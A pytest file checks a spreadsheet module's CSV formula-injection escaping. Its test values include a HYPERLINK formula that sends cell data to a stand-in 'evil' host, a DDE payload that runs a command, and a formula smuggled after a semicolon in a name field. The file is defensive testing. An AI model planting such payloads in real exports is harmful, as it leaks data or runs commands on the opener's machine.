"""Spreadsheet cells (nicat.core.spreadsheet): nothing a spreadsheet runs as a formula, and the HTCDS CSV
import gets back exactly what was exported."""
import pytest

from nicat.core.spreadsheet import restore_cell, safe_cell

VALUES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1",
          "'=already quoted", "''@twice", "'hello", "'", "", "Aysel", "+994 50 123 45 67", "O'Neil",
          'Aysel;=HYPERLINK("http://evil/?"&A1,"x");', "AZ;RU", ";", "a;;-1", "'a;'=b"]


@pytest.mark.parametrize("value", VALUES)
def test_no_cell_starts_a_formula_and_the_value_comes_back(value):
    cell = safe_cell(value)
    # Excel in an Azerbaijani or Russian region splits a CSV line at semicolons: no part may start a formula.
    assert not [part for part in cell.split(";") if part[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")]
    assert restore_cell(cell) == value


def test_plain_values_and_numbers_are_left_alone():
    assert safe_cell("Aysel") == "Aysel" and safe_cell("'hello") == "'hello" and safe_cell(-5) == -5
    assert safe_cell("=1") == "'=1" and safe_cell("'=1") == "''=1"
    assert safe_cell("x;=1") == "x;'=1" and safe_cell("x;=1", csv=False) == "x;=1"  # an XLSX cell is not split
